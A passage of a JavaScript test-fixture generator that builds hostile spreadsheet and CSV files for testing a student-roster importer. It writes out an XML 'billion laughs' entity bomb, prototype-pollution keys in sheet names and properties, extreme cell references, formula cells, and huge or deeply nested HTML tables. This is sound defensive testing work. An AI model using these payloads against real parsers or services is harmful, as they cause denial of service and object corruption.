    for (let i = 1; i < 10; i++) dtd += `<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`;
    const cells = (row) => `<Row>${row.map((v) => `<Cell><Data ss:Type="String">${v}</Data></Cell>`).join('')}</Row>`;
    const rows = roster(60, 21).map((r, i) => cells(i === 1 ? [r[0], '&lol9;', ...r.slice(2)] : r));
    put('xml-entity-bomb.xls', enc(`<?xml version="1.0"?>${dtd}]><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="学员名单"><Table>${rows.join('')}</Table></Worksheet></Workbook>`));
  }
  put('cell-ref-overflow.xlsx', xlsx(book([['学员名单', roster(60, 18)]]), (entries) => {
    const xml = text(entries, 'xl/worksheets/sheet1.xml');
    const far = '<row r="2147483647"><c r="ZZZZZZZ2147483647" t="inlineStr"><is><t>远</t></is></c></row>';
    return setText(entries, 'xl/worksheets/sheet1.xml', xml.replace('</sheetData>', `${far}</sheetData>`).replace(/<dimension ref="[^"]*"\/>/, '<dimension ref="A1:ZZZZZZZ2147483647"/>'));
  }));
  put('far-cell.xlsx', xlsx(book([['学员名单', roster(60, 19)]]), (entries) => {
    const xml = text(entries, 'xl/worksheets/sheet1.xml');
    const far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>最后一格</t></is></c></row>';
    return setText(entries, 'xl/worksheets/sheet1.xml', xml.replace('</sheetData>', `${far}</sheetData>`).replace(/<dimension ref="[^"]*"\/>/, '<dimension ref="A1:XFD1048576"/>'));
  }));
  put('proto-names.xlsx', xlsx(book([['__proto__', protoRows()], ['constructor', [['__proto__', 'polluted'], ['constructor', 'prototype']]], ['prototype', [['x']]]])));
  put('proto-xml.xlsx', xlsx(book([['学员名单', roster(60, 20)]]), (entries) => {
    const xml = text(entries, 'xl/worksheets/sheet1.xml');
    setText(entries, 'xl/worksheets/sheet1.xml', xml.replace(/<c r="A2"/, '<c __proto__="polluted" constructor="x" prototype="y" r="A2"').replace(/<row r="3"/, '<row __proto__="1" r="3"'));
    const wbXml = text(entries, 'xl/workbook.xml');
    setText(entries, 'xl/workbook.xml', wbXml.replace('</sheets>', '</sheets><definedNames><definedName name="__proto__">学员名单!$A$1</definedName><definedName name="constructor">学员名单!$A$2</definedName><definedName name="polluted">1</definedName></definedNames>'));
    setText(entries, 'docProps/custom.xml', '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="__proto__"><vt:lpwstr>polluted</vt:lpwstr></property><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="3" name="polluted"><vt:lpwstr>1</vt:lpwstr></property></Properties>');
    const rels = text(entries, '_rels/.rels');
    setText(entries, '_rels/.rels', rels.replace('</Relationships>', '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/custom-properties" Target="docProps/custom.xml"/></Relationships>'));
    const ct = text(entries, '[Content_Types].xml');
    return setText(entries, '[Content_Types].xml', ct.replace('</Types>', '<Override PartName="/docProps/custom.xml" ContentType="application/vnd.openxmlformats-officedocument.custom-properties+xml"/></Types>'));
  }));
  put('proto.csv', enc(XLSX.utils.sheet_to_csv(XLSX.utils.aoa_to_sheet(protoRows()), { FS: ',', RS: '\r\n' })));
  put('regex-stress.xlsx', xlsx(book([['学员名单', regexStressRows()]])));
  put('formula-cells.xlsx', xlsx(book([['学员名单', formulaRows()]]), (entries) => {
    // One real formula cell as well (its cached value is what a reader shows).
    const xml = text(entries, 'xl/worksheets/sheet1.xml');
    return setText(entries, 'xl/worksheets/sheet1.xml', xml.replace(/<c r="N2"[^>]*>.*?<\/c>|(<row r="2"[^>]*>)/, (m, open) => (open ? `${open}<c r="N2" t="str"><f>HYPERLINK("http://example.invalid","点我")</f><v>点我</v></c>` : m)));
  }));
  put('formula-cells.csv', enc(`\ufeff${XLSX.utils.sheet_to_csv(XLSX.utils.aoa_to_sheet(formulaRows()), { FS: ',', RS: '\r\n' })}`));
  put('markup-cells.xlsx', xlsx(book([['学员名单', markupRows()]])));
  put('str-entities.xlsx', xlsx(book([['学员名单', markupRows()]]), undefined, { bookSST: false }));
  put('gbk-bom-mixed-open-quote.csv', gbkMixed(true));
  put('gbk-bom-mixed.csv', gbkMixed(false));
  put('ole-garbage.xls', oleGarbage());
  put('html-5mb.xls', enc(`<html><body><table><tr><td>姓名</td><td>证件号码</td><td>手机号码</td></tr>${`<tr>${'<td>张三</td>'.repeat(13)}</tr>`.repeat(32000)}</table></body></html>`));
  for (const [name, bytes] of Object.entries(craftedFiles())) put(name, bytes);
  for (const [name, bytes] of Object.entries(legacyFiles())) put(name, bytes);
  for (const [name, bytes] of Object.entries(budgetFiles())) put(name, bytes);
  for (const [name, bytes] of Object.entries(hygieneFiles())) put(name, bytes);
  for (const [name, bytes] of Object.entries(cellsFiles())) put(name, bytes);
  for (const [name, bytes] of Object.entries(sharedStringsFiles())) put(name, bytes);
  // The zips of rosters and settings files of hostile-names.mjs: a folder of their own (run with --batch and options).
  makeNames();
  put('html-deep.xls', enc(`<html><body><table><tr><td>姓名</td><td>证件号码</td><td>手机号码</td></tr>${'<div>'.repeat(200000)}${'</div>'.repeat(200000)}</table></body></html>`));
  return files;
}

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
  const t0 = performance.now();
  const files = makeHostile();
  for (const h of HOSTILE) console.log(`${h.name}\t${files[h.name]} bytes\t${h.code === 2 ? 'refused' : 'checked'}\t${h.what}`);
  console.log(`${Object.keys(files).length} files in ${Math.round(performance.now() - t0)} ms`);
  const missing = HOSTILE.filter((h) => !(h.name in files)).map((h) => h.name);
  if (missing.length) throw new Error(`not made: ${missing.join(', ')}`);
}
